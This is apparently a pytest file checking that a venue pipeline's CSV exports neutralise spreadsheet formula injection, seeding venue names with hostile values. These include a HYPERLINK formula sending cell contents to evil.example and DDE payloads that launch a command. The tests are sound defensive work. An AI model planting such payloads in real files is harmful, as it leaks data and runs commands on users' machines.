"""CSV exports of hostile venue names (`report --format csv` and `report --failed-images`) through the real command,
on SQLite and PostgreSQL: no cell a spreadsheet would run as a formula, and the text still readable."""

from __future__ import annotations

import csv
from datetime import datetime, timezone
from pathlib import Path

import pytest
from sqlalchemy import select

from venue_pipeline.cli import main
from venue_pipeline.core.report import FORMULA_PREFIXES, safe_cell
from venue_pipeline.core.statuses import ImageStatus
from venue_pipeline.store.db import session_scope
from venue_pipeline.store.schema import VenueImageRow, VenueRow

HOSTILE = {
    "1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "2": "+1+cmd|' /C calc'!A0",
    "3": "-2+3",
    "4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "5": "Plain Pub",
}


@pytest.fixture
def db(any_db_url, tmp_path, monkeypatch) -> str:
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "dh"))
    monkeypatch.setenv("VENUE_PIPELINE_HOME", str(tmp_path))
    return any_db_url


def _quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _seed(url: str, tmp_path: Path, capsys) -> None:
    path = tmp_path / "hostile.csv"
    lines = ["fas_id,name,address,postcode,easting,northing,latitude,longitude,local_authority"]
    lines += [f"{fas_id},{_quote(name)},1 High St,NR1 1AA,1,1,52.6,1.29,Norwich" for fas_id, name in HOSTILE.items()]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["--db-url", url, "import-venues", str(path)]) == 0
    capsys.readouterr()
    now = datetime.now(timezone.utc)
    with session_scope(url) as session:
        for venue in session.scalars(select(VenueRow)):
            for key, status in (("ok", ImageStatus.UPLOADED), ("bad", ImageStatus.FAILED)):
                session.add(
                    VenueImageRow(
                        venue_id=venue.id, provider="here", photo_key=key, reference=f"ref-{key}",
                        status=status, error_type="http_5xx" if key == "bad" else None,
                        error_class="transient" if key == "bad" else None, status_code=500 if key == "bad" else None,
                        error_message="=1+2 upstream said" if key == "bad" else None, attempts=1,
                        discovered_at=now, updated_at=now,
                    )
                )


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_failed_images_and_report_csv_neutralise_formula_prefixes(db, tmp_path, capsys) -> None:
    _seed(db, tmp_path, capsys)
    report, failed = tmp_path / "report.csv", tmp_path / "failed.csv"
    code = main(["--db-url", db, "report", "--format", "csv", "--out", str(report), "--failed-images", str(failed)])
    out, err = capsys.readouterr()
    assert code == 0 and "Traceback" not in err
    for path in (report, failed):
        rows = _cells(path)
        assert rows, path
        dangerous = [cell for r in rows for cell in r if cell.startswith(FORMULA_PREFIXES)]
        assert dangerous == [], (path.name, dangerous)

    rows = _cells(failed)
    header, body = rows[0], rows[1:]
    names = {r[header.index("venue")] for r in body}
    assert names == {"'" + n if n[0] in "=+-@" else n for n in HOSTILE.values()}
    assert {r[header.index("message")] for r in body} == {"'=1+2 upstream said"}

    report_cells = {cell for r in _cells(report) for cell in r}
    for name in HOSTILE.values():  # the partial-failure table names every venue
        assert safe_cell(name) in report_cells
        if name[0] in "=+-@":
            assert name not in report_cells


def test_safe_cell() -> None:
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=b", "", None, -3, 2.5)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=b", "", None, -3, 2.5
    ]
